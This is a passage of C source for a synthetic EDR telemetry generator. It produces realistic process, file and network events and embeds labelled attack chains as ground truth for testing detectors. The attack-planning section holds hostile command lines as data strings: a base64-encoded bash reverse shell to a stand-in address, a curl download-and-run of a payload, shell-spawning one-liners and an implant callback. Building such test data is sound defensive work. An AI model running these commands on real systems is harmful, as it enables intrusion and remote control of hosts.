/* Synthetic event generator: per-host process tables driving a realistic event mix. */
#include "edr/synth.h"
#include "edr/err.h"
#include "edr/identity.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAX_LIVE 96
#define N_BASE   8

typedef struct {
    uint8_t id[16];
    uint8_t parent[16];
    uint32_t pid;
    uint16_t tmpl;   /* index into the program templates */
    uint16_t user;   /* index into users */
    uint8_t base;    /* long-lived daemon: never exits */
} sproc_t;

typedef struct {
    uint8_t host_id[16];
    uint8_t boot_id[16];
    char hostname[32];
    uint64_t seq;
    uint64_t now_ns;
    uint32_t next_pid;
    uint32_t n_live;
    uint32_t last_actor; /* activity comes in bursts: the same process acts again */
    sproc_t live[MAX_LIVE];
    Edr__V1__SensorInfo info;
    uint32_t atk;     /* 1 + index of the attack this host is emitting, 0: none */
    uint64_t emitted; /* events emitted by this host */
} shost_t;

struct sattack;

struct edr_synth {
    edr_synth_opts_t opts;
    uint64_t rng;
    shost_t *hosts;
    struct sattack *attacks; /* embedded attack chains (edr_synth_add_attack) */
    size_t n_attacks, cap_attacks;
};

/* Programs: executable and argument vectors that appear on real servers. */
typedef struct {
    const char *exe;
    const char *argv[8];
} tmpl_t;

static const tmpl_t programs[] = {
    {"/usr/lib/systemd/systemd", {"/sbin/init", "splash"}},
    {"/usr/sbin/sshd", {"sshd:", "/usr/sbin/sshd", "-D", "-o", "AuthorizedKeysCommand=none"}},
    {"/usr/sbin/cron", {"/usr/sbin/cron", "-f", "-P"}},
    {"/usr/sbin/nginx", {"nginx:", "worker", "process"}},
    {"/usr/lib/postgresql/15/bin/postgres",
     {"/usr/lib/postgresql/15/bin/postgres", "-D", "/var/lib/postgresql/15/main", "-c",
      "config_file=/etc/postgresql/15/main/postgresql.conf"}},
    {"/usr/bin/python3.11", {"/usr/bin/python3", "/opt/app/worker.py", "--queue", "default"}},
    {"/usr/bin/dockerd", {"/usr/bin/dockerd", "-H", "fd://", "--containerd=/run/containerd/containerd.sock"}},
    {"/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
     {"/usr/bin/java", "-Xmx2g", "-Djava.util.logging.config.file=/etc/tomcat9/logging.properties",
      "-classpath", "/usr/share/tomcat9/bin/bootstrap.jar", "org.apache.catalina.startup.Bootstrap", "start"}},
    /* short-lived children from here on */
    {"/usr/bin/bash", {"/bin/bash", "-c", "/usr/local/bin/backup.sh --incremental /srv/data"}},
    {"/usr/bin/git", {"git", "-C", "/home/alice/src/api", "status", "--porcelain"}},
    {"/usr/bin/curl", {"curl", "-fsSL", "https://packages.example.org/releases/latest.json"}},
    {"/usr/bin/ls", {"ls", "-la", "/var/log"}},
    {"/usr/bin/grep", {"grep", "-r", "--include=*.conf", "listen", "/etc/nginx"}},
    {"/usr/bin/tar", {"tar", "-czf", "/tmp/backup-2026-01-01.tar.gz", "/srv/data"}},
    {"/usr/bin/gcc-12", {"gcc", "-O2", "-c", "-o", "build/main.o", "src/main.c"}},
    {"/usr/bin/make", {"make", "-j2", "all"}},
    {"/usr/bin/ssh", {"ssh", "-o", "BatchMode=yes", "deploy@10.0.4.17", "uptime"}},
    {"/usr/bin/apt-get", {"apt-get", "-qq", "update"}},
    {"/usr/bin/find", {"find", "/var/tmp", "-mtime", "+7", "-delete"}},
    {"/usr/bin/logrotate", {"/usr/sbin/logrotate", "/etc/logrotate.conf"}},
    {"/usr/bin/node", {"node", "/srv/web/server.js", "--port", "3000"}},
    {"/usr/bin/rsync", {"rsync", "-az", "--delete", "/srv/data/", "backup@10.0.9.2:/backups/"}},
    {"/usr/bin/sed", {"sed", "-i", "s/^#Port 22/Port 22/", "/etc/ssh/sshd_config"}},
    {"/usr/bin/vim.basic", {"vim", "/home/alice/notes.md"}},
};
#define N_PROGRAMS (sizeof(programs) / sizeof(programs[0]))

static const char *const users[] = {"root", "alice", "bob", "www-data", "postgres", "deploy"};
static const uint32_t uids[] = {0, 1000, 1001, 33, 114, 1002};

static const char *const file_dirs[] = {
    "/home/alice/src/api/build", "/home/alice/.cache/pip/http", "/home/bob/Downloads",
    "/tmp", "/tmp/systemd-private", "/var/log/nginx", "/var/lib/postgresql/15/main/base/16384",
    "/srv/data/uploads", "/var/tmp", "/home/deploy/.ansible/tmp"};
static const char *const file_names[] = {
    "access.log", "error.log", "main.o", "index.pack", "report.csv", "session.json",
    "tmp.XXXXXX", "16397_fsm", "cache.db", "upload.part", "state.lock", "out.txt"};

static const uint8_t remotes[][4] = {{10, 0, 4, 17},  {10, 0, 9, 2},    {192, 0, 2, 10},
                                     {198, 51, 100, 7}, {203, 0, 113, 5}, {10, 0, 0, 53},
                                     {172, 16, 3, 40}, {10, 0, 4, 18}};
static const uint32_t ports[] = {443, 443, 443, 80, 5432, 22, 53, 8080};
static const char *const dns_names[] = {"packages.example.org", "api.internal.example.com",
                                        "metrics.example.net", "db-1.prod.example.com"};

static uint64_t rnd(edr_synth_t *s)
{
    /* xorshift64*: fast, deterministic, good enough for workloads */
    uint64_t x = s->rng;
    x ^= x >> 12;
    x ^= x << 25;
    x ^= x >> 27;
    s->rng = x;
    return x * 0x2545F4914F6CDD1Dull;
}

static uint32_t rndn(edr_synth_t *s, uint32_t n)
{
    return (uint32_t)((rnd(s) >> 32) * n >> 32);
}

void edr_synth_host_id(const edr_synth_t *s, uint32_t h, uint8_t out[16])
{
    memcpy(out, s->hosts[h].host_id, 16);
}

/* The ProcessStart of p's program template (image, argv, user); NULL when
 * the arena is out of memory. */
static Edr__V1__ProcessStart *process_start(edr_arena_t *a, const sproc_t *p)
{
    const tmpl_t *t = &programs[p->tmpl];
    Edr__V1__ProcessStart *ps = edr_arena_alloc(a, sizeof(*ps));
    if (!ps)
        return NULL;
    edr__v1__process_start__init(ps);
    ps->exe = (char *)t->exe;
    size_t argc = 0;
    while (argc < 8 && t->argv[argc])
        argc++;
    ps->argv = (char **)t->argv;
    ps->n_argv = argc;
    ps->uid = ps->gid = uids[p->user];
    ps->user = ps->group = (char *)users[p->user];
    return ps;
}

static void proc_spawn(edr_synth_t *s, shost_t *hs, sproc_t *p, const sproc_t *parent,
                       uint16_t tmpl, int base)
{
    memset(p, 0, sizeof(*p));
    p->pid = hs->next_pid++;
    if (hs->next_pid > 4000000)
        hs->next_pid = 300; /* pids wrap: entity ids stay unique */
    edr_entity_id(hs->host_id, hs->boot_id, p->pid, hs->now_ns + rndn(s, 1000), p->id);
    if (parent)
        memcpy(p->parent, parent->id, 16);
    p->tmpl = tmpl;
    p->user = (uint16_t)(base ? 0 : rndn(s, 6));
    p->base = (uint8_t)base;
}

edr_synth_t *edr_synth_new(const edr_synth_opts_t *opts)
{
    edr_synth_t *s = calloc(1, sizeof(*s));
    if (!s)
        return NULL;
    s->opts = *opts;
    if (s->opts.hosts == 0)
        s->opts.hosts = 1;
    if (s->opts.start_ns == 0)
        s->opts.start_ns = 1767225600ull * 1000000000ull; /* 2026-01-01T00:00:00Z */
    s->rng = opts->seed * 0x9E3779B97F4A7C15ull + 0x1234567ull;
    s->hosts = calloc(s->opts.hosts, sizeof(*s->hosts));
    if (!s->hosts) {
        free(s);
        return NULL;
    }
    for (uint32_t h = 0; h < s->opts.hosts; h++) {
        shost_t *hs = &s->hosts[h];
        snprintf(hs->hostname, sizeof(hs->hostname), "host-%05u", h);
        edr_host_id_from_name(hs->hostname, hs->host_id);
        for (int i = 0; i < 16; i++)
            hs->boot_id[i] = (uint8_t)rnd(s);
        hs->now_ns = s->opts.start_ns + rndn(s, 1000000);
        hs->next_pid = 1;
        for (int i = 0; i < N_BASE; i++)
            proc_spawn(s, hs, &hs->live[i], i ? &hs->live[0] : NULL, (uint16_t)i, 1);
        hs->n_live = N_BASE;
        hs->next_pid = 1000 + rndn(s, 5000);
        edr__v1__sensor_info__init(&hs->info);
        hs->info.host_id.data = hs->host_id;
        hs->info.host_id.len = 16;
        hs->info.hostname = hs->hostname;
        hs->info.boot_id.data = hs->boot_id;
        hs->info.boot_id.len = 16;
        hs->info.os = "Debian GNU/Linux 12 (bookworm)";
        hs->info.kernel = "6.1.0-28-amd64";
        hs->info.sensor_version = "edr-synth 1";
        hs->info.source = EDR__V1__SENSOR_INFO__SOURCE_KIND__SYNTHETIC;
    }
    return s;
}

void edr_synth_destroy(edr_synth_t *s)
{
    if (!s)
        return;
    free(s->hosts);
    free(s->attacks);
    free(s);
}

/* Ids are copied: process slots are reused while the batch is still being built. */
static ProtobufCBinaryData idb(edr_arena_t *a, const uint8_t *id)
{
    ProtobufCBinaryData b = {16, edr_arena_dup(a, id, 16)};
    return b;
}

static char *make_path(edr_synth_t *s, edr_arena_t *a)
{
    char buf[256];
    int n = snprintf(buf, sizeof(buf), "%s/%s", file_dirs[rndn(s, 10)], file_names[rndn(s, 12)]);
    if (rndn(s, 4) == 0) /* some unique names, like real temp files */
        n += snprintf(buf + n, sizeof(buf) - (size_t)n, ".%u", rndn(s, 100000));
    return edr_arena_dup(a, buf, (size_t)n);
}

static Edr__V1__Endpoint *endpoint(edr_arena_t *a, const uint8_t *ip4, uint32_t port)
{
    Edr__V1__Endpoint *e = edr_arena_alloc(a, sizeof(*e));
    edr__v1__endpoint__init(e);
    e->ip.data = (uint8_t *)ip4;
    e->ip.len = 4;
    e->port = port;
    return e;
}

static const uint8_t local_ip[4] = {10, 0, 1, 5};

static int attack_step(edr_synth_t *s, shost_t *hs, Edr__V1__Event *e, edr_arena_t *a, uint64_t base);

/* The next batch of host hs with room for n events (returned in *ev), its
 * sequence advanced; NULL when out of memory. */
static Edr__V1__EventBatch *batch_new(shost_t *hs, size_t n, edr_arena_t *a, Edr__V1__Event **ev)
{
    Edr__V1__EventBatch *b = edr_arena_alloc(a, sizeof(*b));
    Edr__V1__Event **evs = edr_arena_alloc(a, sizeof(*evs) * (n ? n : 1));
    *ev = edr_arena_alloc(a, sizeof(**ev) * (n ? n : 1));
    if (!b || !evs || !*ev)
        return NULL;
    edr__v1__event_batch__init(b);
    b->schema_version = 1;
    b->sensor = &hs->info;
    b->seq = ++hs->seq;
    b->base_time_ns = hs->now_ns;
    b->events = evs;
    b->n_events = n;
    return b;
}

Edr__V1__EventBatch *edr_synth_next_batch(edr_synth_t *s, uint32_t h, size_t n, edr_arena_t *a)
{
    shost_t *hs = &s->hosts[h % s->opts.hosts];
    Edr__V1__Event *ev;
    Edr__V1__EventBatch *b = batch_new(hs, n, a, &ev);
    if (!b)
        return NULL;
    Edr__V1__Event **evs = b->events;
    for (size_t i = 0; i < n; i++) {
        Edr__V1__Event *e = &ev[i];
        evs[i] = e;
        edr__v1__event__init(e);
        hs->now_ns += 1000 + rndn(s, 400000);
        e->time_offset_ns = (int64_t)(hs->now_ns - b->base_time_ns);
        hs->emitted++;
        if (hs->atk && attack_step(s, hs, e, a, b->base_time_ns))
            continue;
        uint32_t r = rndn(s, 100);
        if (hs->last_actor >= hs->n_live || rndn(s, 4) == 0)
            hs->last_actor = rndn(s, hs->n_live);
        sproc_t *actor = &hs->live[hs->last_actor];
        if (r < 8 && hs->n_live < MAX_LIVE) {
            /* a new process: actor is the child, exec of a program template */
            sproc_t *parent = actor;
            hs->last_actor = hs->n_live;
            sproc_t *child = &hs->live[hs->n_live++];
            proc_spawn(s, hs, child, parent, (uint16_t)(N_BASE + rndn(s, N_PROGRAMS - N_BASE)), 0);
            Edr__V1__ProcessStart *ps = process_start(a, child);
            ps->cwd = child->user ? "/home/alice" : "/";
            ps->ppid = parent->pid;
            ps->start_time_ns = hs->now_ns;
            e->body_case = EDR__V1__EVENT__BODY_PROCESS_START;
            e->process_start = ps;
            actor = child;
        } else if (r < 14 && hs->n_live > N_BASE + 4) {
            /* the most recent short-lived process exits */
            uint32_t k = N_BASE + rndn(s, hs->n_live - N_BASE);
            actor = &hs->live[k];
            Edr__V1__ProcessExit *x = edr_arena_alloc(a, sizeof(*x));
            edr__v1__process_exit__init(x);
            x->exit_code = rndn(s, 10) == 0 ? 1 : 0;
            e->body_case = EDR__V1__EVENT__BODY_PROCESS_EXIT;
            e->process_exit = x;
            /* fill the event now: the slot is reused below */
            e->entity_id = idb(a, actor->id);
            e->parent_entity_id = idb(a, actor->parent);
            e->pid = e->tid = actor->pid;
            hs->live[k] = hs->live[--hs->n_live];
            continue;
        } else if (r < 50) {
            Edr__V1__FileWrite *w = edr_arena_alloc(a, sizeof(*w));
            edr__v1__file_write__init(w);
            w->path = make_path(s, a);
            w->bytes = 512u << rndn(s, 8);
            e->body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
            e->file_write = w;
        } else if (r < 58) {
            Edr__V1__FileCreate *c = edr_arena_alloc(a, sizeof(*c));
            edr__v1__file_create__init(c);
            c->path = make_path(s, a);
            c->mode = 0644;
            e->body_case = EDR__V1__EVENT__BODY_FILE_CREATE;
            e->file_create = c;
        } else if (r < 62) {
            Edr__V1__FileRename *rn = edr_arena_alloc(a, sizeof(*rn));
            edr__v1__file_rename__init(rn);
            rn->old_path = make_path(s, a);
            size_t l = strlen(rn->old_path);
            char *np = edr_arena_alloc(a, l + 5);
            memcpy(np, rn->old_path, l);
            memcpy(np + l, ".1", 3);
            rn->new_path = np;
            e->body_case = EDR__V1__EVENT__BODY_FILE_RENAME;
            e->file_rename = rn;
        } else if (r < 66) {
            Edr__V1__FileDelete *d = edr_arena_alloc(a, sizeof(*d));
            edr__v1__file_delete__init(d);
            d->path = make_path(s, a);
            e->body_case = EDR__V1__EVENT__BODY_FILE_DELETE;
            e->file_delete = d;
        } else if (r < 88) {
            Edr__V1__Network *nw = edr_arena_alloc(a, sizeof(*nw));
            edr__v1__network__init(nw);
            int inbound = r >= 84;
            nw->action =
                inbound ? EDR__V1__NETWORK__ACTION__ACCEPT : EDR__V1__NETWORK__ACTION__CONNECT;
            nw->protocol = EDR__V1__NETWORK__PROTOCOL__TCP;
            nw->direction =
                inbound ? EDR__V1__NETWORK__DIRECTION__INBOUND : EDR__V1__NETWORK__DIRECTION__OUTBOUND;
            uint32_t ri = rndn(s, 8);
            nw->local = endpoint(a, local_ip, inbound ? 443 : 32768 + rndn(s, 28000));
            nw->remote = endpoint(a, remotes[ri], inbound ? 32768 + rndn(s, 28000) : ports[ri]);
            e->body_case = EDR__V1__EVENT__BODY_NETWORK;
            e->network = nw;
        } else if (r < 93) {
            Edr__V1__DnsQuery *q = edr_arena_alloc(a, sizeof(*q));
            edr__v1__dns_query__init(q);
            q->name = (char *)dns_names[rndn(s, 4)];
            q->qtype = 1;
            q->server = endpoint(a, remotes[5], 53);
            e->body_case = EDR__V1__EVENT__BODY_DNS_QUERY;
            e->dns_query = q;
        } else {
            Edr__V1__FileExec *x = edr_arena_alloc(a, sizeof(*x));
            edr__v1__file_exec__init(x);
            x->path = "/usr/lib/x86_64-linux-gnu/libc.so.6";
            x->mapped = 1;
            e->body_case = EDR__V1__EVENT__BODY_FILE_EXEC;
            e->file_exec = x;
        }
        e->entity_id = idb(a, actor->id);
        e->parent_entity_id = idb(a, actor->parent);
        e->pid = actor->pid;
        e->tid = actor->pid;
    }
    return b;
}

/* ------------------------------------------------------------------ embedded attacks */

enum { OP_ACCEPT = 1, OP_CONNECT, OP_SPAWN, OP_WRITE, OP_LCONNECT, OP_LACCEPT };
enum { IP_ATTACKER = 0, IP_TARGET_HOST, IP_ENTRY_HOST };
#define ATK_STEPS 40
#define ATK_SLOTS 20

typedef struct {
    uint8_t op, slot, parent, part; /* part 0: spec.host, 1: spec.target_host */
    uint8_t truth, ip_kind, role;   /* role: 1 first malicious process, 2 alert */
    uint16_t port;
    const char *exe;
    const char *user;
    char cmd[128];
} sstep_t;

typedef struct {
    uint8_t id[16], parent[16];
    uint32_t pid;
    uint8_t bound;
} sslot_t;

struct sattack {
    edr_synth_attack_t pub;
    sstep_t steps[ATK_STEPS];
    uint32_t n_steps, pc;
    sslot_t slot[ATK_SLOTS];
    uint8_t attacker_ip[4];
    uint16_t lport; /* ephemeral port of the lateral flow */
    uint8_t svc;    /* base process index of the exploited service */
};

static void host_ip(uint32_t h, uint8_t out[4])
{
    out[0] = 10;
    out[1] = 200;
    out[2] = (uint8_t)(h >> 8);
    out[3] = (uint8_t)h;
}

static sstep_t *step_add(struct sattack *t, uint8_t op, uint8_t slot, uint8_t parent, uint8_t part,
                         uint8_t truth)
{
    if (t->n_steps >= ATK_STEPS)
        return NULL;
    sstep_t *st = &t->steps[t->n_steps++];
    memset(st, 0, sizeof(*st));
    st->op = op;
    st->slot = slot;
    st->parent = parent;
    st->part = part;
    st->truth = truth;
    return st;
}

static void spawn(struct sattack *t, uint8_t slot, uint8_t parent, uint8_t part, uint8_t truth,
                  const char *exe, const char *user, const char *cmd, uint8_t role)
{
    sstep_t *st = step_add(t, OP_SPAWN, slot, parent, part, truth);
    if (!st)
        return;
    st->exe = exe;
    st->user = user;
    st->role = role;
    snprintf(st->cmd, sizeof(st->cmd), "%s", cmd);
}

static void net(struct sattack *t, uint8_t op, uint8_t slot, uint8_t part, uint8_t truth, uint8_t ip_kind,
                uint16_t port)
{
    sstep_t *st = step_add(t, op, slot, 0, part, truth);
    if (st) {
        st->ip_kind = ip_kind;
        st->port = port;
    }
}

static const char *const deep_cmds[][2] = {
    {"/usr/bin/python3.11", "python3 -c import pty;pty.spawn('/bin/bash')"},
    {"/usr/bin/bash", "/bin/bash"},
    {"/usr/bin/sh", "sh -c uname -a; id; cat /etc/os-release"},
    {"/usr/bin/perl", "perl -e exec '/bin/sh'"},
    {"/usr/bin/bash", "bash -c cd /dev/shm && ./.k"},
    {"/usr/bin/sh", "sh -c crontab -l"},
    {"/usr/bin/bash", "bash -i"},
    {"/usr/bin/nohup", "nohup /dev/shm/.k -c 198.18.0.1"},
};

/* Slots: 0 the exploited service, 1 sshd, 2.. the attack's own processes. */
static void plan(struct sattack *t, uint32_t idx)
{
    const edr_synth_attack_spec_t *sp = &t->pub.spec;
    uint32_t depth = sp->depth;
    uint8_t s = 2, prev;
    char cmd[128];
    if (sp->kind == EDR_SYNTH_ATTACK_DOWNLOAD_EXECUTE) {
        char path[64];
        snprintf(path, sizeof(path), "/tmp/.upd-%u", idx);
        spawn(t, 2, 1, 0, 0, "/usr/bin/bash", "alice", "-bash", 0);
        snprintf(cmd, sizeof(cmd), "curl -fsSL -o %s http://198.18.%u.%u/upd", path, t->attacker_ip[2],
                 t->attacker_ip[3]);
        spawn(t, 3, 2, 0, 1, "/usr/bin/curl", "alice", cmd, 0);
        net(t, OP_CONNECT, 3, 0, 1, IP_ATTACKER, 80);
        sstep_t *w = step_add(t, OP_WRITE, 3, 0, 0, 1);
        if (w)
            snprintf(w->cmd, sizeof(w->cmd), "%s", path);
        snprintf(cmd, sizeof(cmd), "%s --daemon", path);
        sstep_t *st = step_add(t, OP_SPAWN, 4, 2, 0, 1);
        if (st) {
            snprintf(st->cmd, sizeof(st->cmd), "%s", cmd);
            st->exe = NULL; /* image is the downloaded file: exe = path (set on emission) */
            st->user = "alice";
            st->role = 1;
        }
        net(t, OP_CONNECT, 4, 0, 1, IP_ATTACKER, 443);
        prev = 4;
        s = 5;
    } else {
        net(t, OP_ACCEPT, 0, 0, 1, IP_ATTACKER, t->svc == 7 ? 8080 : 443);
        net(t, OP_CONNECT, 0, 0, 1, IP_ATTACKER, 1389);
        net(t, OP_CONNECT, 0, 0, 1, IP_ATTACKER, 8888);
        spawn(t, 2, 0, 0, 1, "/usr/bin/bash", "www-data",
              "bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguMTguMC4xLzQ0MyAwPiYx}|{base64,-d}|{bash,-i}", 1);
        spawn(t, 3, 2, 0, 1, "/usr/bin/base64", "www-data", "base64 -d", 0);
        spawn(t, 4, 2, 0, 1, "/usr/bin/bash", "www-data", "bash -i", 0);
        net(t, OP_CONNECT, 4, 0, 1, IP_ATTACKER, 443);
        prev = 4;
        s = 5;
        if (sp->kind == EDR_SYNTH_ATTACK_LATERAL) {
            uint8_t ip[4];
            host_ip(sp->target_host, ip);
            snprintf(cmd, sizeof(cmd), "ssh -o StrictHostKeyChecking=no deploy@%u.%u.%u.%u", ip[0], ip[1], ip[2],
                     ip[3]);
            spawn(t, 5, 4, 0, 1, "/usr/bin/ssh", "www-data", cmd, 0);
            net(t, OP_LCONNECT, 5, 0, 1, IP_TARGET_HOST, 22);
            net(t, OP_LACCEPT, 1, 1, 0, IP_ENTRY_HOST, 22);
            spawn(t, 6, 1, 1, 1, "/usr/bin/bash", "deploy", "-bash", 0);
            prev = 6;
            s = 7;
        }
    }
    uint8_t part = sp->kind == EDR_SYNTH_ATTACK_LATERAL ? 1 : 0;
    for (uint32_t i = 0; i < depth && s < ATK_SLOTS - 1; i++, s++) {
        const char *const *dc = deep_cmds[(idx + i) % 8];
        spawn(t, s, prev, part, 1, dc[0], "www-data", dc[1], 0);
        if (i == depth / 2) {
            sstep_t *w = step_add(t, OP_WRITE, s, 0, part, 0);
            if (w)
                snprintf(w->cmd, sizeof(w->cmd), "/dev/shm/.k%u", idx);
            if (i % 2 == 0)
                net(t, OP_CONNECT, s, part, 1, IP_ATTACKER, 4444);
        }
        prev = s;
    }
    spawn(t, s, prev, part, 1, "/usr/bin/whoami", "www-data", "whoami", 2);
}

int edr_synth_add_attack(edr_synth_t *s, const edr_synth_attack_spec_t *spec)
{
    if (spec->host >= s->opts.hosts || spec->depth < 1 || spec->depth > 8 ||
        spec->kind < EDR_SYNTH_ATTACK_SERVICE_EXPLOIT || spec->kind > EDR_SYNTH_ATTACK_LATERAL ||
        (spec->kind == EDR_SYNTH_ATTACK_LATERAL &&
         (spec->target_host >= s->opts.hosts || spec->target_host == spec->host)))
        return EDR_EINVAL;
    if (s->hosts[spec->host].atk ||
        (spec->kind == EDR_SYNTH_ATTACK_LATERAL && s->hosts[spec->target_host].atk))
        return EDR_EBUSY;
    if (s->n_attacks == s->cap_attacks) {
        size_t n = s->cap_attacks ? s->cap_attacks * 2 : 16;
        struct sattack *p = realloc(s->attacks, n * sizeof(*p));
        if (!p)
            return EDR_ENOMEM;
        s->attacks = p;
        s->cap_attacks = n;
        /* hosts refer to attacks by index, so moving them is safe */
    }
    uint32_t idx = (uint32_t)s->n_attacks;
    struct sattack *t = &s->attacks[s->n_attacks++];
    memset(t, 0, sizeof(*t));
    t->pub.spec = *spec;
    t->attacker_ip[0] = 198;
    t->attacker_ip[1] = 18;
    t->attacker_ip[2] = (uint8_t)(1 + idx / 250);
    t->attacker_ip[3] = (uint8_t)(1 + idx % 250);
    t->svc = (idx & 1) ? 3 : 7; /* nginx or the tomcat JVM */
    t->pub.root_class = spec->kind == EDR_SYNTH_ATTACK_DOWNLOAD_EXECUTE ? 2 : 1;
    plan(t, idx);
    s->hosts[spec->host].atk = idx + 1;
    return (int)idx;
}

size_t edr_synth_attack_count(const edr_synth_t *s)
{
    return s->n_attacks;
}

const edr_synth_attack_t *edr_synth_attack(const edr_synth_t *s, size_t i)
{
    return i < s->n_attacks ? &s->attacks[i].pub : NULL;
}

static void truth_add(struct sattack *t, uint8_t kind, const uint8_t host_id[16], const uint8_t *id,
                      const char *path, const uint8_t *ip)
{
    edr_synth_attack_t *p = &t->pub;
    for (size_t i = 0; i < p->n_truth; i++) {
        const edr_synth_truth_t *x = &p->truth[i];
        if (x->kind == kind && !memcmp(x->host_id, host_id, 16) &&
            ((kind == 1 && !memcmp(x->entity_id, id, 16)) || (kind == 2 && !strcmp(x->path, path)) ||
             (kind == 3 && !memcmp(x->ip, ip, 4))))
            return;
    }
    if (p->n_truth >= EDR_SYNTH_TRUTH_MAX)
        return;
    edr_synth_truth_t *x = &p->truth[p->n_truth++];
    memset(x, 0, sizeof(*x));
    x->kind = kind;
    memcpy(x->host_id, host_id, 16);
    if (id)
        memcpy(x->entity_id, id, 16);
    if (path)
        snprintf(x->path, sizeof(x->path), "%s", path);
    if (ip)
        memcpy(x->ip, ip, 4);
}

/* Binds base slots (service, sshd) to the emitting host's long-lived processes. */
static sslot_t *slot_of(struct sattack *t, shost_t *hs, uint8_t k)
{
    sslot_t *sl = &t->slot[k];
    if (!sl->bound && k < 2) {
        const sproc_t *p = &hs->live[k == 0 ? t->svc : 1];
        memcpy(sl->id, p->id, 16);
        memcpy(sl->parent, p->parent, 16);
        sl->pid = p->pid;
        sl->bound = 1;
    }
    return sl;
}

/* Emits the next step of the host's attack into e (1), or nothing (0). */
static int attack_step(edr_synth_t *s, shost_t *hs, Edr__V1__Event *e, edr_arena_t *a, uint64_t base)
{
    struct sattack *t = &s->attacks[hs->atk - 1];
    uint32_t h = (uint32_t)(hs - s->hosts);
    if (hs->emitted < t->pub.spec.after_events || rndn(s, 3) != 0)
        return 0;
    const sstep_t *st = &t->steps[t->pc];
    uint32_t my_part = h == t->pub.spec.host ? 0 : 1;
    if (st->part != my_part)
        return 0;
    sslot_t *sl = slot_of(t, hs, st->slot);
    uint8_t ip[4];
    if (st->ip_kind == IP_ATTACKER)
        memcpy(ip, t->attacker_ip, 4);
    else if (st->ip_kind == IP_TARGET_HOST)
        host_ip(t->pub.spec.target_host, ip);
    else
        host_ip(t->pub.spec.host, ip);
    uint8_t my_ip[4];
    host_ip(h, my_ip);
    switch (st->op) {
    case OP_SPAWN: {
        sslot_t *par = slot_of(t, hs, st->parent);
        memset(sl, 0, sizeof(*sl));
        sl->pid = hs->next_pid++;
        edr_entity_id(hs->host_id, hs->boot_id, sl->pid, hs->now_ns, sl->id);
        memcpy(sl->parent, par->id, 16);
        sl->bound = 1;
        Edr__V1__ProcessStart *ps = edr_arena_alloc(a, sizeof(*ps));
        edr__v1__process_start__init(ps);
        ps->command_line = edr_arena_strdup(a, st->cmd);
        if (st->exe)
            ps->exe = (char *)st->exe;
        else {
            size_t l = strcspn(st->cmd, " ");
            ps->exe = edr_arena_dup(a, st->cmd, l);
        }
        ps->user = (char *)st->user;
        ps->ppid = par->pid;
        ps->start_time_ns = hs->now_ns;
        ps->cwd = "/";
        e->body_case = EDR__V1__EVENT__BODY_PROCESS_START;
        e->process_start = ps;
        if (st->truth)
            truth_add(t, 1, hs->host_id, sl->id, NULL, NULL);
        if (st->role == 1) {
            /* the first malicious process: find it in the truth list */
            for (size_t i = 0; i < t->pub.n_truth; i++)
                if (!memcmp(t->pub.truth[i].entity_id, sl->id, 16))
                    t->pub.first = t->pub.truth[i];
        }
        if (st->role == 2) {
            memset(&t->pub.alert, 0, sizeof(t->pub.alert));
            t->pub.alert.kind = 1;
            memcpy(t->pub.alert.host_id, hs->host_id, 16);
            memcpy(t->pub.alert.entity_id, sl->id, 16);
            t->pub.alert_ns = hs->now_ns;
        }
        break;
    }
    case OP_WRITE: {
        Edr__V1__FileWrite *w = edr_arena_alloc(a, sizeof(*w));
        edr__v1__file_write__init(w);
        w->path = edr_arena_strdup(a, st->cmd);
        w->bytes = 65536;
        e->body_case = EDR__V1__EVENT__BODY_FILE_WRITE;
        e->file_write = w;
        if (st->truth) {
            truth_add(t, 2, hs->host_id, NULL, st->cmd, NULL);
            if (t->pub.root_class == 2 && !t->pub.root.kind)
                t->pub.root = t->pub.truth[t->pub.n_truth - 1];
        }
        break;
    }
    default: {
        Edr__V1__Network *nw = edr_arena_alloc(a, sizeof(*nw));
        edr__v1__network__init(nw);
        int inbound = st->op == OP_ACCEPT || st->op == OP_LACCEPT;
        nw->action = inbound ? EDR__V1__NETWORK__ACTION__ACCEPT : EDR__V1__NETWORK__ACTION__CONNECT;
        nw->protocol = EDR__V1__NETWORK__PROTOCOL__TCP;
        nw->direction = inbound ? EDR__V1__NETWORK__DIRECTION__INBOUND : EDR__V1__NETWORK__DIRECTION__OUTBOUND;
        if (st->op == OP_LCONNECT)
            t->lport = (uint16_t)(40000 + rndn(s, 20000));
        uint16_t eph = st->op == OP_LCONNECT || st->op == OP_LACCEPT ? t->lport : (uint16_t)(32768 + rndn(s, 28000));
        const uint8_t *lip = st->op == OP_LCONNECT || st->op == OP_LACCEPT ? my_ip : local_ip;
        nw->local = endpoint(a, edr_arena_dup(a, lip, 4), inbound ? st->port : eph);
        nw->remote = endpoint(a, edr_arena_dup(a, ip, 4), inbound ? eph : st->port);
        e->body_case = EDR__V1__EVENT__BODY_NETWORK;
        e->network = nw;
        if (st->truth)
            truth_add(t, 3, hs->host_id, NULL, NULL, ip);
        break;
    }
    }
    if (st->slot == 0 && !t->pub.root.kind && t->pub.root_class == 1) {
        t->pub.root.kind = 1;
        memcpy(t->pub.root.host_id, hs->host_id, 16);
        memcpy(t->pub.root.entity_id, sl->id, 16);
        truth_add(t, 1, hs->host_id, sl->id, NULL, NULL);
    }
    e->entity_id.len = 16;
    e->entity_id.data = edr_arena_dup(a, sl->id, 16);
    e->parent_entity_id.len = 16;
    e->parent_entity_id.data = edr_arena_dup(a, sl->parent, 16);
    e->pid = e->tid = sl->pid;
    (void)base;
    t->pc++;
    if (t->pc >= t->n_steps) {
        t->pub.done = 1;
        hs->atk = 0;
    } else if (t->steps[t->pc].part != my_part) {
        /* the attack moves to the other host, a moment later */
        shost_t *o = &s->hosts[my_part ? t->pub.spec.host : t->pub.spec.target_host];
        if (o->now_ns < hs->now_ns + 1000000)
            o->now_ns = hs->now_ns + 1000000;
        o->atk = hs->atk;
        o->emitted = o->emitted > t->pub.spec.after_events ? o->emitted : t->pub.spec.after_events;
        hs->atk = 0;
    }
    return 1;
}

Edr__V1__EventBatch *edr_synth_seed_batch(edr_synth_t *s, uint32_t h, edr_arena_t *a)
{
    shost_t *hs = &s->hosts[h % s->opts.hosts];
    size_t n = hs->n_live;
    Edr__V1__Event *ev;
    Edr__V1__EventBatch *b = batch_new(hs, n, a, &ev);
    if (!b)
        return NULL;
    Edr__V1__Event **evs = b->events;
    for (size_t i = 0; i < n; i++) {
        const sproc_t *p = &hs->live[i];
        Edr__V1__Event *e = &ev[i];
